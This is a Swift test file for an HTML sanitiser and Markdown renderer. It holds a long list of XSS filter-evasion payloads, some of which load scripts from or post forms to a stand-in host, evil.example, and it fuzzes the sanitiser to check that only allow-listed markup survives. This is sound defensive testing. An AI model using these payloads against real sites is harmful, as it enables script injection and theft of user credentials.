// HTML that tries to do something, and what is left of it.
@testable import Markup
import Testing

/// Attacks, in the spirit of the OWASP filter evasion collection, html5sec and DOMPurify's own tests.
let attacks: [String] = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script", "<script/x>alert(1)",
    "<script>alert(1)", "</script><script>alert(1)</script>", "<<script>alert(1);//<</script>", "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<img src=x:x onerror\n=alert(1)//", "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>", "<img src='x' alt='`><script>alert(1)</script>'>", "<img srcset=\"javascript:alert(1) 1x, //evil.example/x 2x\">",
    "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"JaVaScRiPt:alert(1)\">x</a>", "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"java&#10;script&colon;alert(1)\">x</a>", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>", "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"javascript&#58;alert(1)\">x</a>", "<a href=\"vbscript:msgbox(1)\">x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>", "<a href=\"file:///etc/passwd\">x</a>", "<a href=\"blob:https://x/1\">x</a>",
    "<a href=\"\\\\evil.example\">x</a>", "<a href=\"/\\evil.example\">x</a>", "<a href=\"https:evil.example\">x</a>", "<a href=x style=\"color:expression(alert(1))\">x</a>",
    "<a href=x onclick=alert(1) ONMOUSEOVER='alert(1)'>x</a>", "<a xlink:href=\"javascript:alert(1)\">x</a>", "<a href=x target=_blank ping=//evil.example>x</a>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><img src=x onerror=alert(1)></template>", "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>", "<style><img title=\"</style><img src=x onerror=alert(1)>\"></style>",
    "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<iframe src=javascript:alert(1)>",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">", "<plaintext><img src=x onerror=alert(1)>", "<!-- unclosed <img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->", "<!--!><img src=x onerror=alert(1)>--!><img src=x onerror=alert(1)>", "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<![CDATA[><script>alert(1)</script>]]>", "<?xml-stylesheet href=\"javascript:alert(1)\"?>", "<?php echo '<script>alert(1)</script>' ?>",
    "<!DOCTYPE html [<!ENTITY x \"<script>alert(1)</script>\">]>&x;", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=//evil.example/x.css>", "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<button onclick=alert(1)>x</button>", "<input autofocus onfocus=alert(1)>", "<input type=checkbox onclick=alert(1) checked>", "<select autofocus onfocus=alert(1)><option>x</select>",
    "<object data=//evil.example></object>", "<embed src=javascript:alert(1)>", "<applet code=x></applet>", "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<body onload=alert(1)>", "</body><body onload=alert(1)>", "<html manifest=x onclick=alert(1)>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>", "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</table>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>", "<div id=main name=body class=navigation>x</div>", "<img id=location name=cookie src=x>",
    "<marquee onstart=alert(1)>x</marquee>", "<isindex action=javascript:alert(1)>", "<bgsound src=javascript:alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<image src=x onerror=alert(1)>", "<area href=javascript:alert(1)>", "<map name=x><area shape=rect href=javascript:alert(1)></map>", "<q cite=\"javascript:alert(1)\">x</q>",
    "<x onclick=alert(1)>y</x>", "<x-y is=z>y</x-y>", "<p/onclick=alert(1)>x", "<p onclick\u{C}=alert(1)>x</p>", "<p \u{B}onclick=alert(1)>x</p>", "<a\u{0}href=javascript:alert(1)>x</a>",
    "<im\u{0}g src=x onerror=alert(1)>", "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<a title='\"><script>alert(1)</script>'>x</a>",
    "<a title=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>", "&lt;script&gt;alert(1)&lt;/script&gt;", "<div><table><a href=x><tr><td></a><img src=x onerror=alert(1)></table></div>",
    "<select><style></select><img src=x onerror=alert(1)></style>", "<p><svg><style><!--</style>--><img src=x onerror=alert(1)>", "<b <script>alert(1)</script>0", "</p><</div><img/onerror=alert(1) src=x",
    "<svg:script>alert(1)</svg:script>", "<ul><li></ul></div></article><script>alert(1)</script>", "<meta charset=utf-7>+ADw-script+AD4-",
    "<slot name=x></slot><almanac-slot id=0></almanac-slot>", "<dialog open>x</dialog>", "<a href=\"//evil.example\">x</a>", "<a href='mailto:a@b.example?body=<script>'>x</a>",
]

/// Whether an address in our output is plainly http, https, mailto or of this site; told without the code under test.
func isHarmless(_ value: String) -> Bool {
    if ["https://", "http://", "mailto:", "#"].contains(where: { value.lowercased().hasPrefix($0) }) { return true }
    let beginning = value.prefix { $0 != "/" && $0 != "?" && $0 != "#" }
    return !value.hasPrefix("//") && !value.contains("\\") && !beginning.contains(":") && !beginning.contains("&") && value.utf8.allSatisfy { $0 >= 32 }
}

/// Reads our own output as strictly as it is written and complains about anything that is not on the list.
func complaint(about html: String) -> String? {
    // A combining mark would make another Character of the sign before it.
    let ascii = String(String.UnicodeScalarView(html.unicodeScalars.map { $0.isASCII ? $0 : "u" }))
    var rest = ascii[...]
    var open: [String] = []
    while let start = rest.firstIndex(of: "<") {
        if rest[..<start].contains(">") { return "stray > in \(rest[..<start])" }
        rest = rest[rest.index(after: start)...]
        guard let end = rest.firstIndex(of: ">") else { return "unclosed tag" }
        var tag = rest[..<end]
        rest = rest[rest.index(after: end)...]
        if tag.hasPrefix("/") {
            guard open.popLast() == String(tag.dropFirst()) else { return "unbalanced \(tag)" }
            continue
        }
        let name = String(tag.prefix { $0.isLetter || $0.isNumber })
        guard let element = AllowList.elements[name] else { return "element \(name)" }
        tag = tag.dropFirst(name.count)
        while !tag.isEmpty {
            guard tag.hasPrefix(" "), let equals = tag.firstIndex(of: "=") else { return "malformed \(tag)" }
            let attribute = String(tag[tag.index(after: tag.startIndex)..<equals])
            tag = tag[tag.index(after: equals)...].dropFirst()
            guard let quote = tag.firstIndex(of: "\"") else { return "unclosed value" }
            let value = String(tag[..<quote])
            tag = tag[tag.index(after: quote)...]
            if attribute == "href" || attribute == "src" {
                if !isHarmless([("&#96;", "`"), ("&#39;", "'"), ("&lt;", "<"), ("&gt;", ">"), ("&quot;", "\""), ("&amp;", "&")].reduce(value) { $0.replacing($1.0, with: $1.1) }) { return "address \(value)" }
            } else if element.attributes[attribute] == nil, AllowList.everywhere[attribute] == nil, attribute != "rel" {
                return "attribute \(attribute)"
            }
            if attribute == "id", !value.hasPrefix("text-") { return "id \(value)" }
        }
        if !element.isVoid { open.append(name) }
    }
    return rest.contains(">") || !open.isEmpty ? "unbalanced end \(open)" : nil
}

@Suite struct AttackTests {
    @Test(arguments: attacks) func `nothing but listed elements and attributes is left`(attack: String) throws {
        for html in [attack, "<p>before</p>" + attack + "<p>after</p>", "<table><tr><td>" + attack + "</table>", "<b><ul><li>" + attack] {
            let clean = try HTMLFragment.sanitise(html).html.html
            #expect(complaint(about: clean) == nil, "\(clean)")
            #expect(try HTMLFragment.sanitise(clean).html.html == clean)
        }
    }

    @Test(arguments: attacks) func `Markdown lets nothing through either, however it is cut`(attack: String) throws {
        for text in [attack, "text \(attack) text", "\(attack)\n\n**more**\n\n\(attack)", "- \(attack)\n- b", "| a |\n|---|\n| \(attack) |", "> \(attack)", "[x](<\(attack)>)", "![x](<\(attack)>)", "# \(attack)"] {
            let clean = try Markdown.render(text).html.html
            #expect(complaint(about: clean) == nil, "\(text) -> \(clean)")
        }
    }

    @Test func `a raw block cut in two by a blank line smuggles nothing`() throws {
        let text = "<div title=\"\n\n<img src=x onerror=alert(1)>\n\n\">\n\n<style>\n\n</style><img src=x onerror=alert(1)>"
        #expect(complaint(about: try Markdown.render(text).html.html) == nil)
    }

    @Test func `what is removed is named with its line`() throws {
        let removed = try Markdown.render("# Title\n\ntext <b onclick=x>bold</b>\n\n<div>\n<script>1</script>\n<p style='x'>y</p>\n</div>\n\n[x](javascript:1)").removed
        #expect(removed.contains(RemovedHTML(line: 3, what: "onclick of <b>")))
        #expect(removed.contains(RemovedHTML(line: 6, what: "<script>")))
        #expect(removed.contains(RemovedHTML(line: 7, what: "style of <p>")))
        #expect(removed.contains(RemovedHTML(line: 10, what: "href of <a>")))
        #expect(removed.count == 4)
    }

    @Test func `random tag soup never crashes, comes out listed and cleans to itself`() throws {
        var seed: UInt64 = 7
        func random(_ count: Int) -> Int {
            seed = seed &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
            return Int((seed >> 33) % UInt64(count))
        }
        let pieces = Array(AllowList.elements.keys).sorted().flatMap { ["<\($0)>", "</\($0)>", "<\($0) id=a href='#a' title=\"<b>\">"] }
            + ["text", " ", "\n", "<!--", "-->", "<script>", "</script>", "<svg>", "</svg>", "<x>", "</x>", "<form>", "&amp;", "&lt;b&gt;", "&#0;", "<", ">", "\"", "'", "ü", "<input type=checkbox>", "<style>", "</style>", "<center>", "</body>", "<html>"]
        for _ in 0..<1500 {
            let html = (0..<(1 + random(14))).map { _ in pieces[random(pieces.count)] }.joined()
            let clean = try HTMLFragment.sanitise(html).html.html
            #expect(complaint(about: clean) == nil, "\(html) -> \(clean)")
            let again = try HTMLFragment.sanitise(clean).html.html
            #expect(again == clean, "\(html)")
            _ = try Markdown.render(html)
        }
        for _ in 0..<1500 {
            let bytes = (0..<40).map { _ in UInt8(random(256)) }
            let text = String(decoding: bytes, as: UTF8.self)
            let clean = try Markdown.render(text).html.html
            #expect(complaint(about: clean) == nil, "\(bytes) -> \(clean)")
            #expect(complaint(about: try HTMLFragment.sanitise(text).html.html) == nil)
        }
    }

    @Test func `depth and size are bounded`() throws {
        let deep = try HTMLFragment.sanitise(String(repeating: "<div><b>", count: 20_000) + "x")
        #expect(complaint(about: deep.html.html) == nil)
        #expect(!deep.removed.isEmpty)
        #expect(complaint(about: try Markdown.render(String(repeating: "> ", count: 3000) + "x").html.html) == nil)
        #expect(throws: MarkupError.self) { try HTMLFragment.sanitise(String(repeating: "a", count: 9 << 20)) }
        #expect(throws: MarkupError.self) { try Markdown.render(String(repeating: "a", count: 5 << 20)) }
    }
}
